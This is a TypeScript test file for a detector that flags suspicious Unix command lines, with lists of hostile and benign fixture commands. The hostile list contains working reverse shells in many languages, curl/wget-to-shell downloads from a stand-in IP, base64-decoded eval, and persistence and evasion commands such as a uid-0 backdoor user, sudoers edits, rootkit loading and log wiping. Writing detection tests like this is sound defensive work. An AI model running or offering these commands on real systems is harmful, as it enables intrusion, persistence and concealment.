import { describe, expect, it } from 'vitest';
import {
  UNIX_COMMAND_TRAITS,
  type UnixCommandTrait,
  unixCommandTraits,
} from '../../../../main/detect/facts/unix/command-traits.ts';

/** Each command and the traits that it must have; others may be there too. */
const HITS: readonly (readonly [command: string, traits: readonly UnixCommandTrait[]])[] = [
  [
    '/bin/sh -c "curl -fsSL http://203.0.113.7/i.sh | sh"',
    ['pipe-to-shell', 'download', 'ip-address-url', 'url'],
  ],
  ['wget -qO- https://example.com/x | sudo -E bash', ['pipe-to-shell', 'download', 'url']],
  ['wget -qO- https://example.com/x | sudo bash -s', ['pipe-to-shell', 'download']],
  ['bash -c "$(curl -fsSL https://example.com/install.sh)"', ['pipe-to-shell', 'download']],
  ['bash <(wget -O - http://example.com/x)', ['pipe-to-shell', 'process-substitution']],
  ['sh -c "echo aWQK | base64 -d | sh"', ['pipe-to-shell', 'base64']],
  ['eval "$(echo aWQK | base64 --decode)"', ['pipe-to-shell', 'base64', 'eval']],
  ['curl 203.0.113.7/x -o /tmp/x', ['download', 'ip-address-url']],
  ['python3 -c "import base64;exec(base64.b64decode(\'aWQ=\'))"', ['interpreter-eval', 'base64', 'eval']],
  [
    'perl -MIO::Socket -e "use Socket; connect(S,x); exec(q(/bin/sh -i));"',
    ['interpreter-eval', 'reverse-shell'],
  ],
  ["printf '\\x63\\x75\\x72\\x6c' | sh", ['hex-decode']],
  ['xxd -r -p /opt/x | sh', ['hex-decode', 'pipe-to-shell']],
  ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"', ['dev-tcp', 'reverse-shell']],
  [
    'exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done',
    ['dev-tcp', 'reverse-shell'],
  ],
  ['/usr/bin/nc -e /bin/sh 203.0.113.7 4444', ['netcat', 'reverse-shell']],
  ['ncat --exec /bin/bash -lvp 4444', ['netcat', 'reverse-shell']],
  [
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 1234 >/tmp/f',
    ['fifo-shell', 'netcat', 'reverse-shell'],
  ],
  ['socat TCP:203.0.113.7:4444 EXEC:"bash -li",pty', ['socat', 'reverse-shell']],
  [
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect x:443 > /tmp/s',
    ['openssl-connection', 'reverse-shell'],
  ],
  [
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4242));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
    ['reverse-shell', 'interpreter-eval'],
  ],
  [
    'ruby -rsocket -e \'f=TCPSocket.open("h",1).to_i;exec sprintf("sh -i <&%d",f)\'',
    ['reverse-shell', 'interpreter-eval'],
  ],
  ['php -r \'$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");\'', ['reverse-shell', 'interpreter-eval']],
  [
    'node -e \'require("child_process").spawn("sh");net.connect(1,"h")\'',
    ['reverse-shell', 'interpreter-eval'],
  ],
  ['awk \'BEGIN{s="/inet/tcp/0/h/4242";while((s |& getline c)>0)print}\'', ['reverse-shell']],
  ['nohup setsid /opt/x &', ['background']],
  ['chmod +x /tmp/x && /tmp/x', ['chmod-execute', 'tmp-execute']],
  ['chmod 0755 /opt/x', ['chmod-execute']],
  ['rm -f /etc/systemd/system/x.service', ['delete-self']],
  ['rm -- "$0"', ['delete-self']],
  ['export HISTFILE=/dev/null; id', ['history-off']],
  ['env LD_PRELOAD=/x.so id', ['preload']],
  ['echo /x.so > /etc/ld.so.preload', ['preload']],
  ['LD_AUDIT=/x.so id', ['ld-audit']],
  ['(crontab -l; echo "* * * * * /x") | crontab -', ['crontab-edit']],
  ['echo "* * * * * root /x" > /etc/cron.d/x', ['crontab-edit']],
  ['echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', ['key-append']],
  ['useradd -o -u 0 -M backdoor', ['user-add']],
  ['echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', ['user-add']],
  ['iptables -F', ['firewall-off']],
  ['setenforce 0', ['firewall-off']],
  ['systemctl stop firewalld', ['firewall-off']],
  ['rm -rf /var/log/auth.log', ['log-clear']],
  ['cat /dev/null > /var/log/wtmp', ['log-clear']],
  ['journalctl --rotate --vacuum-time=1s', ['log-clear']],
  ['curl --socks5 127.0.0.1:9050 http://abcdefgh.onion/x', ['onion']],
  ['/opt/a -o stratum+tcp://203.0.113.7:3333 -u x', ['miner']],
  ['/usr/local/bin/xmrig -c /etc/x.json', ['miner']],
  ['tcpdump -i any -w /var/x.pcap', ['capture']],
  ['/usr/bin/python3 /opt/responder.py -I eth0', ['capture']],
  ['/usr/bin/ssh -N -R 2222:localhost:22 u@203.0.113.7', ['tunnel']],
  ['ssh -fNTD 1080 u@h', ['tunnel']],
  ['/usr/local/bin/chisel client h:443 R:socks', ['tunnel']],
  ['sysctl -w net.ipv4.ip_forward=1', ['forward-on']],
  ['sh -c "echo 1 > /proc/sys/net/ipv4/ip_forward"', ['forward-on']],
  ['/bin/bash /dev/shm/.x', ['tmp-execute']],
  [`sh -c "cat\${IFS}/etc/shadow"`, ['obfuscated']],
  ['c""url -s http://203.0.113.7/x', ['obfuscated']],
  ["w''get http://203.0.113.7/x", ['obfuscated']],
  [`sh -c "x=hijk; \${x:0:1}\${x:2:1}"`, ['obfuscated']],
  ['chmod u+s /usr/local/bin/x', ['setuid']],
  ['chmod 4755 /opt/x', ['setuid']],
  ['chmod +s /opt/x', ['setuid']],
  ['install -o root -m 4755 a /opt/x', ['setuid']],
  ['setcap cap_setuid+ep /usr/bin/python3.11', ['setuid']],
  ['insmod /opt/rk.ko', ['kernel-module']],
  ['modprobe -d /opt/modules rk', ['kernel-module']],
  ['cp /opt/rk.ko /lib/modules/6.1.0/kernel/rk.ko', ['kernel-module']],
  ['sysctl -w kernel.core_pattern="|/opt/x"', ['kernel-helper']],
  ['sh -c "echo \'|/opt/x %p\' > /proc/sys/kernel/core_pattern"', ['kernel-helper']],
  ['echo /opt/x > /sys/kernel/uevent_helper', ['kernel-helper']],
  ['mount --bind /tmp/empty /proc/$$', ['process-hidden']],
  ['mount -o bind /var/lib/x /proc/1234', ['process-hidden']],
  ['openssl enc -aes-256-cbc -d -in /opt/x -k y', ['openssl-decrypt']],
  ['openssl aes-256-cbc -d -a -in /opt/x', ['openssl-decrypt']],
  ['cp /opt/k /root/.ssh/authorized_keys', ['key-placed']],
  ['install -m 600 /opt/k /home/a/.ssh/authorized_keys', ['key-placed']],
  ['sh -c "cat /opt/k | tee -a /root/.ssh/authorized_keys"', ['key-append']],
  ['at -f /opt/x now + 1 minute', ['at-job']],
  ['sh -c "echo /opt/x | at now"', ['at-job']],
  ['/lib64/ld-linux-x86-64.so.2 /opt/x', ['loader-run']],
  ['/lib/ld-musl-x86_64.so.1 --library-path /opt /opt/x', ['loader-run']],
  ['-/sbin/agetty -o "-p -f root" --noclear --autologin root %I $TERM', ['root-login']],
  ['/sbin/agetty -a root tty1', ['root-login']],
  ['/opt/svc client https://203.0.113.7 R:socks', ['tunnel-arguments']],
  ['/opt/svc -c /etc/frpc.toml', ['tunnel-arguments']],
  ['/opt/svc -L=socks5://:1080', ['tunnel-arguments']],
  [`python3 -c x ${'aGVsbG8gd29ybGQ1'.repeat(6)}`, ['encoded-long']],
];

/** Ordinary commands and the traits that they must not have. */
const MISSES: readonly (readonly [command: string, traits: readonly UnixCommandTrait[]])[] = [
  ['/usr/sbin/sshd -D $SSHD_OPTS', UNIX_COMMAND_TRAITS],
  ['/usr/bin/curl -sf http://localhost:8080/health', ['download', 'url', 'pipe-to-shell', 'ip-address-url']],
  ['/usr/bin/curl -sf http://127.0.0.1:8080/health', ['download', 'url', 'ip-address-url']],
  ['/usr/bin/openssl rand -base64 32', ['base64', 'pipe-to-shell']],
  ['/bin/sh -c "ps aux | grep sshd"', ['pipe-to-shell', 'download']],
  ['/usr/sbin/rsyncd --daemon', ['netcat']],
  ['/bin/bash -c "until nc -w 1 -z db 5432; do sleep 1; done"', ['netcat']],
  ['/usr/bin/nc-monitor --config /etc/nc.conf', ['netcat']],
  ['/usr/bin/python3 -m http.server', ['interpreter-eval', 'download']],
  ['/usr/bin/perl /usr/share/x/y.pl -e', ['interpreter-eval']],
  ['/usr/bin/dd-agent --url https://example.com', ['download', 'ip-address-url']],
  ['chmod 0644 /etc/x', ['chmod-execute']],
  ['rm -f /run/x.pid', ['delete-self', 'log-clear']],
  ['rm -f /var/log/app/old.gz', ['log-clear']],
  ['crontab -l', ['crontab-edit']],
  ['/usr/bin/ssh-agent -D -a /run/x', ['tunnel']],
  ['/usr/sbin/sysctl --system', ['forward-on']],
  ['/usr/bin/install -m 0644 a /tmp/b', ['tmp-execute', 'chmod-execute']],
  ['timeout 1 bash -c "(echo > /dev/tcp/db/5432) >/dev/null 2>&1"', ['reverse-shell']],
  ['/bin/echo evaluation', ['eval']],
  ['journalctl --vacuum-time=14d', ['log-clear']],
  [`IFS=$OLD; for x in $IFS; do a="\${IFS}"; done`, ['obfuscated']],
  ['/bin/sh -c "test -z \'\' || exit"', ['obfuscated']],
  ['grep "" /etc/x', ['obfuscated']],
  ['chmod 0755 /opt/x', ['setuid']],
  ['chmod 755 /opt/x', ['setuid']],
  ['chmod 1777 /run/x', ['setuid']],
  ['chmod g+w /run/x', ['setuid']],
  ['modprobe -q br_netfilter', ['kernel-module']],
  ['modprobe fuse', ['kernel-module']],
  ['sysctl -w kernel.pid_max=4194304', ['kernel-helper']],
  ['mount --bind /srv/data /mnt/data', ['process-hidden']],
  ['mount -t proc proc /opt/chroot/proc', ['process-hidden']],
  ['openssl enc -aes-256-cbc -in /opt/x -out /opt/y', ['openssl-decrypt']],
  ['openssl x509 -in a -noout -enddate', ['openssl-decrypt', 'openssl-connection']],
  ['cp /root/.ssh/authorized_keys /var/backups', ['key-placed', 'key-append']],
  ['/usr/sbin/atd -f', ['at-job']],
  ['cat -f x', ['at-job']],
  ['/opt/x --library /lib64/ld-linux-x86-64.so.2', ['loader-run']],
  ['-/sbin/agetty -o "-p -- \\\\u" --noclear - $TERM', ['root-login']],
  ['/sbin/agetty --autologin alice tty1', ['root-login']],
  ['/usr/bin/server --config /etc/x.toml', ['tunnel-arguments']],
  ['/usr/sbin/haproxy -c /etc/haproxy.cfg -L peer1', ['tunnel-arguments']],
  ['/usr/bin/psql client -c /etc/client.json', ['tunnel-arguments']],
  [`/opt/x --sha ${'0123456789abcdef'.repeat(8)}`, ['encoded-long', 'hex-decode']],
];

describe('traits of Unix commands', () => {
  it.each(HITS)('%s', (command, traits) => {
    const found = unixCommandTraits([command]);
    expect(traits.filter((trait) => !found.includes(trait))).toEqual([]);
  });

  it.each(MISSES)('%s has none of them', (command, traits) => {
    const found = unixCommandTraits([command]);
    expect(found.filter((trait) => (traits as readonly string[]).includes(trait))).toEqual([]);
  });

  it('each can be found', () => {
    const found = new Set(HITS.flatMap(([command]) => unixCommandTraits([command])));
    expect(UNIX_COMMAND_TRAITS.filter((trait) => !found.has(trait))).toEqual([]);
  });

  it('takes little time for hostile text', () => {
    const started = performance.now();
    for (const part of [
      'curl ',
      'chmod u',
      'mount --bind ',
      'openssl enc ',
      ' client R:',
      '/ld.so --x ',
      'modprobe -a ',
      `\${x:1}`,
      '| sh ',
      'nc -',
      '/tmp/',
      '$(',
      'http://',
      'A',
      ' -e ',
      '>',
      'python -c ',
      'ssh -',
      '\\x41',
      'rm ',
      '&',
    ]) {
      unixCommandTraits([part.repeat(Math.ceil(16_384 / part.length))]);
    }
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
